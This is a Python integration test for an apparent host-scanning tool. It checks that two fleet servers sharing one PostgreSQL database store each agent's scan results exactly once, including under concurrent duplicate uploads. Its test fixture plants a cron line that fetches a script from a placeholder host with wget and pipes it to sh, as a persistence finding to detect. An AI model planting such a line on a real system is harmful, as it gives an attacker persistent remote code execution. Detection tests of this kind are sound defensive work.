"""Several `rasoat server` processes on one PostgreSQL (the deployment
behind a load balancer): two servers share a database started here;
agents enrolled through either are known to both; agents spread across
them (and moved from one to the other) upload, and every scan is stored
once; the same signed batch posted to both servers at the same instant is
stored once (one answer "duplicate":false, the other true), again and
again."""
import json
import os
import secrets
import sys
import threading

sys.path.insert(0, os.path.dirname(__file__))
from rasoat_e2e import Tree, check, done, run  # noqa: E402
from fleet_e2e import (Agent, Server, check_exactly_once, expected_findings, make_root,  # noqa: E402
                       spooled_scans)
import pgserver  # noqa: E402

PASSED = 0
RACES = 10


def ok(cond, message):
    global PASSED
    check(cond, message)
    PASSED += 1


def main():
    why = pgserver.unavailable()
    if why:
        print(f"test_fleet_pg_servers: SKIP: {why}")
        return
    pg = pgserver.shared()
    with Tree("rasoat-fleet-2srv-") as t:
        url = pg.create_db()
        a = Server(t.p("a/fleet.db"), db_url=url).start()
        b = Server(t.p("b/fleet.db"), db_url=url).start()
        try:
            scenario(t, pg, url, a, b)
        finally:
            a.kill9()
            b.kill9()
    done("test_fleet_pg_servers", PASSED)


def set_server(agent, url):
    path = os.path.join(agent.state, "identity.json")
    with open(path) as f:
        ident = json.load(f)
    ident["server"] = url
    with open(path, "w") as f:
        json.dump(ident, f)


def results_body(root):
    """A results body of one fresh scan of ROOT (a new scan id)."""
    code, out, err = run("scan", "--root", root, "--only", "persist", "--format", "jsonl", "--no-db")
    check(code in (0, 1), f"scan: {err}")
    lines = [json.loads(l) for l in out.splitlines() if l.strip()]
    scan_id = secrets.token_hex(16)
    summary = [l for l in lines if l["type"] == "summary"][0]
    summary["scan"] = scan_id
    findings = [l for l in lines if l["type"] == "finding"]
    for f in findings:
        f["scan"] = scan_id
    body = {"batch_id": secrets.token_hex(16), "scans": [{"summary": summary, "findings": findings}]}
    return scan_id, json.dumps(body).encode()


def scenario(t, pg, url, a, b):
    root = make_root(t, "host", ["* * * * * root wget -q -O- http://b.example/y | sh"])
    want = expected_findings(root)
    token = a.token("--uses", "4")
    key = b.apikey()   # made through B, used on A too
    agents = [Agent(t.p(f"agent{i}")) for i in range(4)]
    for i, ag in enumerate(agents):
        ag.enrol((a if i % 2 == 0 else b).url, token)
    for srv in (a, b):
        status, body, _ = srv.get("/api/v1/hosts", key)
        ok(status == 200 and len(body["items"]) == 4, f"both servers list the four hosts: {status} {body}")

    made = {}
    for i, ag in enumerate(agents):
        code, _, err = ag.run_once(root, "--scan")
        ok(code == 0, f"agent {i} uploads to its server: {err[-300:]}")
    # move every agent to the other server and scan again
    for i, ag in enumerate(agents):
        set_server(ag, (b if i % 2 == 0 else a).url)
        code, _, err = ag.run_once(root, "--scan")
        ok(code == 0, f"agent {i} uploads to the other server: {err[-300:]}")
    for ag in agents:
        status, host, _ = a.get(f"/api/v1/hosts/{ag.id}", key)
        made[ag.id] = [s["scan"] for s in host["scans"]]
        ok(len(made[ag.id]) == 2, f"two scans of agent {ag.id}: {made[ag.id]}")

    # the same batch to both servers at once: stored once
    racer = agents[0]
    for r in range(RACES):
        scan_id, body = results_body(root)
        heads = racer.sign("/api/v1/results", body, count=2)
        answers = [None, None]

        def post(k, srv):
            h = dict(heads[k], **{"Content-Type": "application/json"})
            answers[k] = srv.request("POST", "/api/v1/results", body=body, headers=h)
        threads = [threading.Thread(target=post, args=(0, a)), threading.Thread(target=post, args=(1, b))]
        for th in threads:
            th.start()
        for th in threads:
            th.join()
        statuses = [x[0] for x in answers]
        dups = sorted(bool(x[1].get("duplicate")) for x in answers if x[0] == 200)
        # a later counter may reach its server first: the other is then a 409 replay,
        # which an agent never meets (it sends one request at a time)
        ok(statuses.count(200) >= 1 and (dups == [False, True] or (dups == [False] and 409 in statuses)),
           f"race {r}: answers {answers}")
        made[racer.id].append(scan_id)
    ok(check_exactly_once(a, key, made, want) == 4, "every scan exactly once (read through A)")
    ok(check_exactly_once(b, key, made, want) == 4, "every scan exactly once (read through B)")
    dbname = url.rsplit("/", 1)[1]
    counts = pg.psql("SELECT COUNT(*), COUNT(DISTINCT id) FROM scans", dbname)
    ok(counts == f"{8 + RACES}|{8 + RACES}", f"scans in PostgreSQL: {counts}")
    dup_findings = pg.psql("SELECT COUNT(*) FROM (SELECT scan, seq FROM findings GROUP BY scan, seq"
                           " HAVING COUNT(*) > 1) d", dbname)
    ok(dup_findings == "0", f"no finding stored twice: {dup_findings}")
    ok(all(not spooled_scans(ag) for ag in agents), "every spool is empty")


if __name__ == "__main__":
    main()
